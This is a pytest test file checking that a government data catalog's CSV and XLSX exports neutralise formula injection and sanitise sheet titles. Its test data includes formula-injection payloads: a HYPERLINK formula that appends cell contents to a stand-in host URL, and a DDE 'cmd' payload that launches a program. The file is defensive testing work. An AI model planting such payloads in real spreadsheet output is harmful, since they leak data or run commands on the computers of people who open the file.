"""Text from departments' systems never becomes a live formula in a CSV or XLSX file we write."""

from __future__ import annotations

import csv

import pytest

from govdata.catalog.export import COLUMNS, write_csv, write_xlsx
from govdata.spreadsheet import safe_cell, sheet_title

FORMULAS = ['=HYPERLINK("http://x.example/"&A1;"点我")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)", "\t=1", "\r=1"]


@pytest.mark.parametrize("text", FORMULAS)
def test_formula_text_is_kept_as_text(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["姓名", "a=b", "", None, -5, 3.5, "13800138000"])
def test_other_values_are_untouched(value):
    assert safe_cell(value) == value


def _resource(text: str) -> dict:
    resource = {column: None for _, column in COLUMNS}
    resource |= {
        "department_code": "gaj", "resource_name": text, "summary": text, "items": f"{text}(x, text)",
        "provider_name": text, "status": "有效", "item_count": 1, "items_unnamed": 0, "row_count": -1,
        "fields_to_complete": [text], "grade": "L1",
    }  # fmt: skip
    return resource


def test_catalog_exports_neutralise_every_formula(tmp_path):
    from openpyxl import load_workbook

    resources = [_resource(text) for text in FORMULAS]
    write_csv(tmp_path / "c.csv", resources)
    write_xlsx(tmp_path / "c.xlsx", resources, {"gaj": "=公安局"})
    with (tmp_path / "c.csv").open(encoding="utf-8-sig", newline="") as fh:
        cells = [cell for row in list(csv.reader(fh))[1:] for cell in row]
    texts = [cell for cell in cells if cell != "-1"]  # the row count: a number stays a number
    assert len(texts) < len(cells)
    assert texts and not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in texts)
    workbook = load_workbook(tmp_path / "c.xlsx")
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula: {cell.value}"
    assert workbook.sheetnames[1] == "=公安局"  # a sheet name is never evaluated


@pytest.mark.parametrize(
    ("name", "title"), [("公安局", "公安局"), ("a/b[c]:d*e?f\\g", "a_b_c__d_e_f_g"), ("", "Sheet")]
)
def test_sheet_titles(name, title):
    assert sheet_title(name) == title
    assert len(sheet_title("长" * 40)) == 31
